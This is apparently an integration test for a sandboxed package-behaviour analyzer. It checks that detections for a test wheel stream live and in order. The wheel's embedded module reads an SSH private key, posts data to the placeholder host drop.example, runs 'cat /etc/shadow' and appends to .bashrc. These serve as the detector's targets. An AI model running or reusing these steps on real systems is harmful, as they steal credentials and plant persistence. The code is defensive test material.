"""A run that is followed while it goes on shows what its report will say, in order, and before it is over."""

from __future__ import annotations

import threading
import time
from contextlib import closing
from datetime import UTC, datetime
from pathlib import Path

import pytest

from analyzer.acquire import Cache, SimpleIndex
from analyzer.model.report import Report
from analyzer.pipeline import Options
from analyzer.pipeline.analyze import acquired, choose_sandbox
from analyzer.pipeline.judging.judge import judge
from analyzer.pipeline.live import Live, LiveBehavior
from analyzer.rules.loader import builtin
from analyzer.sandbox.interface import Manner
from analyzer.store.record import Record
from tests.integration.analysing import PLACES
from tests.packages import make_wheel

ACTS = """
import os, pathlib, socket, subprocess, time, urllib.request

def act():
    home = pathlib.Path.home()
    time.sleep(1)
    (home / ".ssh/id_rsa").read_bytes()
    time.sleep(1)
    urllib.request.urlopen("http://drop.example/x", data=b"x").read()
    time.sleep(1)
    subprocess.run(["sh", "-c", "cat /etc/shadow"], stderr=subprocess.DEVNULL)
    time.sleep(1)
    with (home / ".bashrc").open("a") as file:
        file.write("true")
    time.sleep(1)
"""
IN_ORDER = ["steal.ssh-key.read", "network.url.contact", "steal.password-file.read", "autostart.shell-startup.modify"]
AT_THE_END = {"step.end", "interpreter.silence", "process.clock", "process.outlive"}


def followed(
    target: Path, sandbox: str, tracer: str, folder: Path
) -> tuple[list[tuple[int, LiveBehavior]], int, Report]:
    """What each look showed, with its number; the number of looks before the run was over; and the report."""
    cache = Cache(folder / "cache")
    cache.prepare()
    options = Options(sandbox=sandbox, tracer=tracer, manner=Manner(callables=False))
    record = folder / "record"
    record.mkdir()
    shown: list[tuple[int, LiveBehavior]] = []
    looks, over = 0, threading.Event()
    with closing(choose_sandbox(options, cache.root, lambda stage: None)) as chosen:
        acquisition = acquired(str(target), chosen, options, cache, SimpleIndex(cache), lambda stage: None)
        live = Live(record, builtin(), name=acquisition.name, version=acquisition.version)
        live.prepare()

        def follow() -> None:
            nonlocal looks
            while not over.is_set():
                looks += 1
                shown.extend((looks, one) for one in live.new())
                time.sleep(0.1)

        thread = threading.Thread(target=follow)
        thread.start()
        try:
            facts = chosen.run(acquisition, record, options.limits, options.manner, lambda stage: None)
        finally:
            over.set()
            thread.join()
    before = looks
    shown += [(looks + 1, one) for one in live.rest()]
    return shown, before, judge(Record(record), acquisition, facts, datetime.now(UTC), builtin())


@pytest.mark.parametrize(("sandbox", "tracer"), [PLACES[0], PLACES[3]])
def test_a_run_is_followed_while_it_goes_on(sandbox: str, tracer: str, tmp_path: Path) -> None:
    wheel = make_wheel(
        tmp_path, "acting", modules={"acting.py": ACTS}, entry_points={"console_scripts": {"act": "acting:act"}}
    )
    shown, before, report = followed(wheel, sandbox, tracer, tmp_path)
    first = {one.id: (look, one) for look, one in reversed(shown)}
    looks = [first[name][0] for name in IN_ORDER]
    assert looks == sorted(set(looks))  # each at a look of its own, since a second is between them
    assert looks[-1] < before
    expected = {
        (behavior.id, evidence.target)
        for behavior in report.behaviors
        for evidence in behavior.evidence
        if behavior.severity != "info"
        and (evidence.layer in {"syscall", "interpreter"} or evidence.source.file.endswith("exchanges.jsonl"))
        and evidence.event not in AT_THE_END
    }
    told = {(behavior.id, evidence.target) for behavior in report.behaviors for evidence in behavior.evidence}
    seen = {(one.id, one.target) for _, one in shown}
    assert expected - seen == set()
    assert seen - told == set()
    assert len(seen) == len(shown)
    key = first["steal.ssh-key.read"][1]
    assert (key.severity, key.phase, key.process, key.location) == ("high", "execute", "act", "acting.py:7")
